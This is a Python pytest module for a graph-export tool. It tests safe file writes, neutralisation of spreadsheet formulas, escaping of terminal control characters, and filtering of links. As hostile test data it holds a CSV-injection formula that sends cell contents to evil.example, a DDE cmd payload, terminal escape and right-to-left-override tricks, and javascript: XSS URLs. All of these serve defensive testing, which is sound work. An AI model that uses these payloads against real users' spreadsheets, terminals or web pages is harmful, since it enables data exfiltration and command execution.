"""Writes that respect what the target is (issue 21): a device or pipe given as --out is written
through and never replaced, a folder is refused, a lock file is never opened through a link.

Devices are never the machine's own: a test that needs one runs the command in a private
mount namespace (``unshare -m``) where a temporary file has /dev/null or /dev/full bind-mounted
on it, or where /dev itself is a fresh tmpfs; it is skipped where namespaces are not allowed."""

from __future__ import annotations

import contextlib
import os
import shlex
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from coalitiegraaf.errors import ExportError, InputError
from coalitiegraaf.sources.files import staged_folder, write_atomic
from tests.cli_helpers import run


@pytest.fixture(autouse=True)
def in_english(default_language, monkeypatch):
    """This module checks what the messages say, in English (tests/test_cli_language.py checks
    that every message is said in Dutch as well)."""
    monkeypatch.setenv("COALITIEGRAAF_LANG", "en")

PYTHON = shlex.quote(sys.executable)


def _namespaces_allowed() -> bool:
    if not shutil.which("unshare"):
        return False
    probe = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                            "mount -t tmpfs none /mnt"], capture_output=True)
    return probe.returncode == 0


needs_namespace = pytest.mark.skipif(not _namespaces_allowed(), reason="no private mount namespaces here")


def in_private_namespace(script: str, cwd: Path) -> subprocess.CompletedProcess:
    """Run ``script`` (sh) in a mount namespace of its own: its mounts vanish with it."""
    return subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script],
                          capture_output=True, text=True, timeout=120, cwd=cwd)


@needs_namespace
def test_a_character_device_as_out_is_written_through_and_stays_a_device(tmp_path):
    out = tmp_path / "out.ttl"
    out.write_bytes(b"")
    done = in_private_namespace(
        f"mount --bind /dev/null {out} && {PYTHON} -m coalitiegraaf export --out {out} "
        f"&& stat -c %F {out}", tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "character special file\n"
    assert done.stderr == f"Wrote {out}\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.ttl"]  # no file left beside it


@needs_namespace
def test_a_full_device_as_out_is_a_one_line_error_and_stays_a_device(tmp_path):
    out = tmp_path / "out.ttl"
    out.write_bytes(b"")
    done = in_private_namespace(
        f"mount --bind /dev/full {out}; {PYTHON} -m coalitiegraaf export --out {out}; "
        f"echo $?; stat -c %F {out}", tmp_path)
    assert done.stdout == "3\ncharacter special file\n"
    assert done.stderr == f"Error: {out}: cannot write: No space left on device\n"


@needs_namespace
def test_dev_stdout_as_out_writes_to_standard_output(tmp_path):
    # /dev is a fresh tmpfs in the namespace: if the link were replaced, only that copy would be
    done = in_private_namespace(
        "mount -t tmpfs none /dev && ln -s /proc/self/fd/1 /dev/stdout && touch /dev/null && "
        f"{PYTHON} -m coalitiegraaf export --format nt --out /dev/stdout | wc -l && "
        "stat -c %F /dev/stdout", tmp_path)
    assert done.returncode == 0, done.stderr
    lines, kind = done.stdout.split("\n")[:2]
    assert int(lines) > 4000
    assert kind == "symbolic link"


def test_a_fifo_as_out_is_written_through_and_stays_a_fifo(tmp_path):
    fifo = tmp_path / "out.nt"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run("export", "--format", "nt", "--out", str(fifo))
    reader.join(timeout=30)
    assert result.exit_code == 0, result.stderr
    assert received[0].count(b"\n") > 4000
    assert fifo.is_fifo()


def test_a_link_to_a_file_as_out_keeps_the_link(tmp_path):
    real = tmp_path / "real.ttl"
    real.write_text("old")
    link = tmp_path / "link.ttl"
    link.symlink_to(real)
    write_atomic(link, b"new")
    assert link.is_symlink() and real.read_text() == "new"


@pytest.mark.parametrize("args", [("export", "--out", "."), ("export", "--out", "/"), ("report", "--out", ".")])
def test_a_folder_as_out_file_or_the_current_folder_as_report_is_refused(args, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "keep.txt").write_text("mine")
    result = run(*args)
    assert result.exit_code == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.txt"]


def test_the_current_folder_is_never_swapped_out(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for target in (".", tmp_path, tmp_path.parent):
        with pytest.raises(InputError, match="is the current folder or holds it"), staged_folder(target, ".mark"):
            pass


@pytest.mark.parametrize("kind", ["link", "fifo"])
def test_a_lock_file_is_never_opened_through_a_link_or_a_pipe(tmp_path, kind):
    victim = tmp_path / "someone-elses.txt"
    victim.write_text("precious")
    lock = tmp_path / ".report.lock"
    if kind == "link":
        lock.symlink_to(victim)
    else:
        os.mkfifo(lock)
    with pytest.raises(ExportError, match="the lock file is a link or a pipe"), \
            staged_folder(tmp_path / "report", ".mark") as folder:
        (folder / "index.html").write_text("new")
    assert victim.read_text() == "precious"
    assert not (tmp_path / "report").exists()
    with contextlib.suppress(FileNotFoundError):
        assert not any(p.name.endswith(".tmp") for p in tmp_path.iterdir())


def test_a_replaced_folder_is_removed_whole_without_following_its_links(tmp_path):
    outside = tmp_path / "outside"
    (outside / "kept").mkdir(parents=True)
    (outside / "kept" / "precious.txt").write_text("precious")
    target = tmp_path / "report"
    with staged_folder(target, ".mark") as folder:
        for kind in ("actor", "coalition", "document"):
            (folder / "id" / kind).mkdir(parents=True)
            for n in range(50):
                (folder / "id" / kind / f"{n}.html").write_text("old")
        (folder / "index.html").write_text("old")
    # links inside the old report, at every level the removal looks at
    (target / "to-outside").symlink_to(outside, target_is_directory=True)
    (target / "id" / "to-outside").symlink_to(outside, target_is_directory=True)
    (target / "id" / "actor" / "to-kept").symlink_to(outside / "kept", target_is_directory=True)
    with staged_folder(target, ".mark") as folder:
        (folder / "index.html").write_text("new")
    assert sorted(p.name for p in tmp_path.iterdir()) == [".report.lock", "outside", "report"]
    assert sorted(p.name for p in target.iterdir()) == [".mark", "index.html"]
    assert (outside / "kept" / "precious.txt").read_text() == "precious"


def test_a_report_folder_that_is_a_link_is_replaced_without_emptying_what_it_links_to(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    with staged_folder(elsewhere, ".mark") as folder:
        for kind in ("actor", "coalition"):
            (folder / "id" / kind).mkdir(parents=True)
            (folder / "id" / kind / "vng.html").write_text("kept")
    target = tmp_path / "report"
    target.symlink_to(elsewhere, target_is_directory=True)
    with staged_folder(target, ".mark") as folder:
        (folder / "index.html").write_text("new")
    assert not target.is_symlink() and (target / "index.html").read_text() == "new"
    assert [(elsewhere / "id" / kind / "vng.html").read_text() for kind in ("actor", "coalition")] == ["kept"] * 2


# --- text that lands in a spreadsheet or on a terminal ---------------------------------------

EVIL_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
TERMINAL_TRICKS = "\x1b]0;pwned\x07\x1b[2J\u202etxt.exe"


def _actor(tmp_path: Path, label: str) -> Path:
    data = tmp_path / "actor.ttl"
    data.write_text(f'''@prefix cg: <https://w3id.org/coalitiegraaf/def#> .
@prefix org: <http://www.w3.org/ns/org#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
<https://w3id.org/coalitiegraaf/id/actor/crafted> a cg:PublicOrganisation ; skos:prefLabel {json_string(label)}@nl .
<https://w3id.org/coalitiegraaf/id/membership/crafted> a cg:Membership ;
    org:organization <https://w3id.org/coalitiegraaf/id/coalition/digitale-ethiek> ;
    org:member <https://w3id.org/coalitiegraaf/id/actor/crafted> ;
    org:role <https://w3id.org/coalitiegraaf/id/role/partner> .
''')
    return data


def json_string(text: str) -> str:
    import json

    return json.dumps(text)  # a Turtle string: JSON's escapes are Turtle's (\\u escapes included)


def test_findings_csv_cells_are_neutralised_for_spreadsheets(monkeypatch):
    import csv
    import io

    from coalitiegraaf.analysis import findings
    from coalitiegraaf.analysis.model import Evidence

    crafted = findings.Finding(
        "overlaps", "https://example.org/a", EVIL_LABEL, 2.0, "https://example.org/b", "+31 6 12345678",
        evidence=(Evidence("p1", "-2+3"),), kind="@SUM(1+1)*cmd|' /C calc'!A0", strength="strong",
        sentence={"nl": "=HYPERLINK(\"https://example.org\")"})
    monkeypatch.setattr(findings, "analyse", lambda *_args, **_kwargs: [crafted])
    result = run("analyse", "overlaps", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert list(csv.reader(io.StringIO(result.stdout)))[1] == [
        "'" + EVIL_LABEL, "'+31 6 12345678", "'@SUM(1+1)*cmd|' /C calc'!A0", "strong",
        "'=HYPERLINK(\"https://example.org\")", "p1: “-2+3”"]


def test_sparql_csv_results_stay_as_the_standard_writes_them(tmp_path):
    import csv
    import io

    query = tmp_path / "labels.rq"
    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
    result = run("query", "--file", str(query), "--format", "csv", "--data", str(_actor(tmp_path, EVIL_LABEL)))
    assert list(csv.reader(io.StringIO(result.stdout))) == [["l"], [EVIL_LABEL]]


def test_a_number_stays_a_number_in_a_spreadsheet():
    from coalitiegraaf.store.results import spreadsheet_text

    assert [spreadsheet_text(v) for v in ("-1.5", "+3", "-x", "@SUM(A1)", "\tx", "plain")] == [
        "-1.5", "+3", "'-x", "'@SUM(A1)", "'\tx", "plain"]


@pytest.mark.parametrize("output_format", ["table", "csv", "tsv", "md", "json"])
def test_control_and_bidi_characters_are_escaped_on_a_terminal(tmp_path, output_format):
    import pty

    query = tmp_path / "labels.rq"
    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
    data = _actor(tmp_path, TERMINAL_TRICKS)
    leader, follower = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "coalitiegraaf", "query", "--file", str(query),
                                "--format", output_format, "--data", str(data)],
                               stdout=follower, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    os.close(follower)
    shown = b""
    with contextlib.suppress(OSError):  # the pty ends with EIO once the process has gone
        while chunk := os.read(leader, 65536):
            shown += chunk
    os.close(leader)
    assert process.wait(timeout=60) == 0, process.stderr.read()
    text = shown.decode("utf-8")
    assert "\x1b]0;" not in text and "\u202e" not in text and "\x07" not in text
    assert "pwned" in text and ("\\x1b" in text or "\\u001b" in text)


def test_output_into_a_file_or_pipe_is_unchanged(tmp_path):
    query = tmp_path / "labels.rq"
    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
    result = run("query", "--file", str(query), "--format", "tsv",
                 "--data", str(_actor(tmp_path, TERMINAL_TRICKS)))
    assert TERMINAL_TRICKS in result.stdout


# --- failures --------------------------------------------------------------------------------

def test_an_unexpected_error_is_one_line_with_exit_code_3_and_how_to_see_more(monkeypatch):
    import coalitiegraaf.analysis.statistics as statistics

    def broken(_store):
        raise ImportError("No module named 'networkx'")

    monkeypatch.setattr(statistics, "stats", broken)
    result = run("stats")
    assert result.exit_code == 3
    assert result.stderr == ("Error: internal error, ImportError: No module named 'networkx' (run again with "
                             "COALITIEGRAAF_DEBUG=1 for the traceback, and please report it)\n")
    monkeypatch.setenv("COALITIEGRAAF_DEBUG", "1")
    with pytest.raises(ImportError):
        run("stats")


def test_a_password_in_a_url_is_never_printed():
    from coalitiegraaf.cli.output import without_secrets

    assert without_secrets("cannot reach https://ada:l0velace@example.org:8890/sparql: refused") == (
        "cannot reach https://ada:***@example.org:8890/sparql: refused")
    result = run("--endpoint", "http://ada:l0velace@127.0.0.1:9/sparql", "stats")
    assert result.exit_code == 3 and "l0velace" not in result.stderr + result.stdout


# --- report pages ----------------------------------------------------------------------------

ID = "https://w3id.org/coalitiegraaf/id/"


@pytest.mark.parametrize(("node", "page"), [
    (ID + "actor/vng", "id/actor/vng.html"),
    (ID + "passage/kst-26643-1055/p12", "id/passage/kst-26643-1055.html#p12"),
    (ID + "actor/vng/", "id/actor/vng/_.html"),
    (ID + "actor/VNG", "id/actor/_56_4e_47.html"),
    (ID + "actor/x.html/y", "id/actor/x_2ehtml/y.html"),
    (ID + "actor/caf\u00e9", "id/actor/caf_c3_a9.html"),
    ("https://example.org/elsewhere", "id/~/" + __import__("hashlib").sha256(b"https://example.org/elsewhere").hexdigest()[:32] + ".html"),
])
def test_the_page_of_a_node_follows_the_readme_rule(node, page):
    from coalitiegraaf.report.pages import page_of

    assert page_of(node) == page


def test_no_two_nodes_share_a_page_and_every_name_fits_a_file_system():
    from coalitiegraaf.report.pages import page_of

    nodes = [ID + path for path in (
        "actor/vng", "actor/vng/", "actor/vng//", "actor/Vng", "actor/v_ng", "actor/v ng", "actor/v%20ng",
        "actor/x", "actor/x.html", "actor/x.html/y", "actor/x/y", "actor/.", "actor/..", "actor/_",
        "actor/" + "a" * 300, "actor/" + "a" * 299 + "b", "actor/" + "/".join("abcdefghijklmnopqrstu"))]
    pages = [page_of(node) for node in nodes]
    assert len(set(pages)) == len(pages)
    for page in pages:
        assert len(page) <= 200 and all(0 < len(part) <= 255 for part in page.split("/"))
        assert ".." not in page.split("/") and not page.startswith("/")
    files = {page.split("#")[0] for page in pages}
    folders = {"/".join(page.split("/")[:i]) for page in files for i in range(1, page.count("/") + 1)}
    assert not files & folders  # a page is never where a folder must be


@pytest.mark.slow
def test_a_report_with_colliding_and_overlong_identifiers_is_written_whole(tmp_path):
    from coalitiegraaf.project import load
    from coalitiegraaf.report import write_report

    crafted = tmp_path / "crafted.ttl"
    actors = {"actor/vng/": "Nep-VNG", "actor/x": "X", "actor/x.html/y": "Y", "actor/" + "l" * 300: "Lang"}
    crafted.write_text("@prefix cg: <https://w3id.org/coalitiegraaf/def#> .\n"
                       "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
                       + "".join(f'<{ID}{path}> a cg:PublicOrganisation ; skos:prefLabel "{label}"@nl .\n'
                                 for path, label in actors.items()))
    write_report(load([crafted]), tmp_path / "report")
    vng = (tmp_path / "report" / "id" / "actor" / "vng.html").read_text(encoding="utf-8")
    assert "Vereniging van Nederlandse Gemeenten" in vng and "Nep-VNG" not in vng
    assert "Nep-VNG" in (tmp_path / "report" / "id" / "actor" / "vng" / "_.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(("url", "kept"), [
    ("https://creativecommons.org/licenses/by/4.0/", True), ("http://example.org/a", True),
    ("mailto:info@example.org", True), ("javascript:alert(1)", False), ("JavaScript:alert(1)", False),
    (" javascript:alert(1)", False), ("data:text/html,<script>x</script>", False),
    ("java\tscript:alert(1)", False), ("vbscript:x", False), ("//evil.example/", False), ("", False),
])
def test_only_http_and_mailto_addresses_become_links(url, kept):
    from coalitiegraaf.report.pages import safe_link

    assert (safe_link(url) == url) is kept
